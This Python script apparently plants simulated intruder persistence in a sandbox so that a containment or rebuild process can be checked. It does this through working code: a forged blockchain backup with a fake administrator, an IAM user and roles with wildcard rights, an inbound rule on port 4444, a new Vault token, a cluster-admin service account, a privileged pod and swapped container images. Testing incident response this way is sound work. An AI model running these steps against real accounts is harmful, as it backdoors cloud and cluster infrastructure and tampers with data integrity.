"""What somebody who got in would leave behind in the sandbox. Reads the endpoints as JSON, prints what was planted as JSON."""

import base64
import datetime
import gzip
import hashlib
import json
import os
import subprocess
import sys
import ssl
import urllib.request

import boto3

endpoints = json.load(sys.stdin)
os.environ["AWS_CONFIG_FILE"] = endpoints["aws_config_file"]
os.environ["AWS_SHARED_CREDENTIALS_FILE"] = endpoints["aws_credentials_file"]
session = boto3.Session(profile_name=endpoints["profile"])
planted = []
EVERYTHING = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})


def plant(kind, name, **more):
    planted.append({"kind": kind, "name": name, **more})


def canonical(block):
    """The text that the first user's service hashes: fixed keys of blocks and entries, sorted."""
    entries = []
    for entry in block["entries"]:
        kept = {
            "author": entry.get("author"),
            "content": entry.get("content"),
            "intent": entry.get("intent"),
            "metadata": entry.get("metadata") or {},
            "timestamp": entry.get("timestamp"),
            "validation_paraphrases": entry.get("validation_paraphrases") or [],
            "validation_status": entry.get("validation_status") or "pending",
        }
        for optional in ("derivative_type", "parent_refs", "public_key", "signature"):
            if entry.get(optional):
                kept[optional] = entry[optional]
        entries.append(kept)
    return json.dumps(
        {
            "entries": entries,
            "index": block["index"],
            "nonce": block.get("nonce", 0),
            "previous_hash": block["previous_hash"],
            "timestamp": block["timestamp"],
        },
        sort_keys=True,
    )


def mine(block):
    while True:
        digest = hashlib.sha256(canonical(block).encode()).hexdigest()
        if digest.startswith("0"):
            block["hash"] = digest
            return
        block["nonce"] = block.get("nonce", 0) + 1


def backup():
    """The newest backup again, with a user and a key of ours in an old block and every later block mined anew."""
    s3 = session.client("s3")
    bucket = endpoints["source_bucket"]
    listed = s3.list_objects_v2(Bucket=bucket, Prefix="natlangchain/")["Contents"]
    newest = max(
        (one["Key"] for one in listed if one["Key"].endswith(".json.gz")),
        key=lambda key: key.rsplit("/", 1)[1].split("_")[1:3],
    )
    chain = json.loads(gzip.decompress(s3.get_object(Bucket=bucket, Key=newest)["Body"].read()))
    blocks = chain["chain"]
    first = len(blocks) - 3
    blocks[first]["entries"].append(
        {
            "content": "Mallory is granted every right.",
            "author": "mallory",
            "intent": "Grant access",
            "metadata": {"role": "administrator", "api_key": "planted-" + base64.b16encode(os.urandom(8)).decode()},
            "timestamp": "2026-11-25T00:00:00.000000",
            "validation_status": "valid",
            "validation_paraphrases": [],
        }
    )
    for position in range(first, len(blocks)):
        if position > first:
            blocks[position]["previous_hash"] = blocks[position - 1]["hash"]
        blocks[position]["nonce"] = 0
        mine(blocks[position])
    now = datetime.datetime.now(datetime.timezone.utc)
    name = f"natlangchain_{now:%Y%m%d_%H%M%S}_manual.json.gz"
    plain = json.dumps(chain).encode()
    packed = gzip.compress(plain, mtime=0)
    meta = {
        "backup_id": f"BACKUP-{now:%Y%m%d%H%M%S}",
        "timestamp": f"{now:%Y-%m-%dT%H:%M:%S.%f}",
        "backup_type": "manual",
        "source_file": "data/chain_data.json",
        "size_bytes": len(plain),
        "compressed_size_bytes": len(packed),
        "checksum_sha256": hashlib.sha256(packed).hexdigest(),
        "chain_blocks": len(blocks),
        "chain_entries": sum(len(block["entries"]) for block in blocks),
        "compression_ratio": len(packed) / len(plain),
        "backend": "local",
        "location": name,
    }
    s3.put_object(Bucket=bucket, Key=f"natlangchain/{name}", Body=packed)
    s3.put_object(Bucket=bucket, Key=f"natlangchain/{name}.meta.json", Body=json.dumps(meta).encode())
    plant("backup", name, user="mallory", block=first, copied_from=newest.rsplit("/", 1)[1])


def iam():
    client = session.client("iam")
    try:
        client.create_user(UserName="deployer")
    except client.exceptions.EntityAlreadyExistsException:
        pass
    # Whoever gets in again takes back what a former containment closed.
    for name in client.list_user_policies(UserName="deployer")["PolicyNames"]:
        client.delete_user_policy(UserName="deployer", PolicyName=name)
    client.put_user_policy(UserName="deployer", PolicyName="planted", PolicyDocument=EVERYTHING)
    key = client.create_access_key(UserName="deployer")["AccessKey"]
    plant("iam-access-key", key["AccessKeyId"], user="deployer", secret=key["SecretAccessKey"])


def sessions():
    """The roles of the newest generation may do everything and be taken by anybody, and are taken."""
    client = session.client("iam")
    roles = client.list_roles(PathPrefix=f"/rebuild/{endpoints['environment']}/")["Roles"]
    newest = max((role["Path"] for role in roles), default="")
    for role in roles:
        if role["Path"] != newest:
            continue
        name = role["RoleName"]
        client.put_role_policy(RoleName=name, PolicyName="planted", PolicyDocument=EVERYTHING)
        trust = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}]}
        client.update_assume_role_policy(RoleName=name, PolicyDocument=json.dumps(trust))
        taken = session.client("sts").assume_role(RoleArn=role["Arn"], RoleSessionName="planted")["Credentials"]
        plant(
            "iam-role-session", taken["AccessKeyId"], role=name, secret=taken["SecretAccessKey"], token=taken["SessionToken"]
        )


def ec2():
    client = session.client("ec2")
    marked = [{"Name": "tag:rebuild:environment", "Values": [endpoints["environment"]]}]
    groups = client.describe_security_groups(Filters=marked)["SecurityGroups"]
    tags = {group["GroupId"]: {tag["Key"]: tag["Value"] for tag in group.get("Tags", [])} for group in groups}
    newest = max((of.get("rebuild:generation", "") for of in tags.values()), default="")
    for group in groups:
        if tags[group["GroupId"]].get("rebuild:generation") != newest:
            continue
        # A port of its own, so that it does not meet a rule that is there.
        client.authorize_security_group_ingress(
            GroupId=group["GroupId"], IpProtocol="tcp", FromPort=4444, ToPort=4444, CidrIp="198.51.100.0/24"
        )
        plant("security-group-rule", group["GroupId"], port=4444)


def vault():
    with open(endpoints["vault"]["token_file"], encoding="utf-8") as file:
        token = file.read().strip()
    request = urllib.request.Request(
        endpoints["vault"]["address"] + "/v1/auth/token/create",
        data=json.dumps({"policies": ["default"], "display_name": "planted", "ttl": "24h"}).encode(),
        headers={"X-Vault-Token": token},
        method="POST",
    )
    context = ssl.create_default_context(cafile=endpoints["vault"]["ca_file"])
    with urllib.request.urlopen(request, context=context, timeout=30) as answer:
        made = json.load(answer)["auth"]
    plant("vault-token", made["accessor"], secret=made["client_token"])


def kubectl(*arguments):
    program = os.path.join(endpoints["programs"], "kubectl")
    command = [program, "--kubeconfig", endpoints["kubeconfig"], "--context", endpoints["context"], *arguments]
    return subprocess.run(command, check=True, capture_output=True, text=True, timeout=60).stdout


def kubernetes():
    found = json.loads(kubectl("get", "namespaces", "-l", "rebuild.dev/environment=" + endpoints["environment"], "-o", "json"))
    names = sorted(one["metadata"]["name"] for one in found["items"])
    if not names:
        return
    namespace = names[-1]
    kubectl("-n", namespace, "create", "serviceaccount", "planted")
    kubectl(
        "create", "clusterrolebinding", "planted", "--clusterrole=cluster-admin", f"--serviceaccount={namespace}:planted"
    )
    plant("cluster-role-binding", "planted", namespace=namespace)
    token = kubectl("-n", namespace, "create", "token", "planted").strip()
    plant("service-account-token", f"{namespace}/planted", secret=token)
    kubectl("label", "--overwrite", "namespace", namespace, "pod-security.kubernetes.io/enforce=privileged")
    kubectl("-n", namespace, "run", "planted", "--image=example.test/planted:1", "--privileged")
    plant("privileged-pod", f"{namespace}/planted")
    deployments = json.loads(kubectl("-n", namespace, "get", "deployments", "-o", "json"))["items"]
    for deployment in deployments:
        name = deployment["metadata"]["name"]
        container = deployment["spec"]["template"]["spec"]["containers"][0]["name"]
        digest = hashlib.sha256(os.urandom(8)).hexdigest()
        image = f"example.test/planted@sha256:{digest}"
        kubectl("-n", namespace, "set", "image", f"deployment/{name}", f"{container}={image}")
        plant("image-digest", f"sha256:{digest}", deployment=f"{namespace}/{name}")


for step in (backup, iam, sessions, ec2, vault, kubernetes):
    step()
json.dump(planted, sys.stdout)
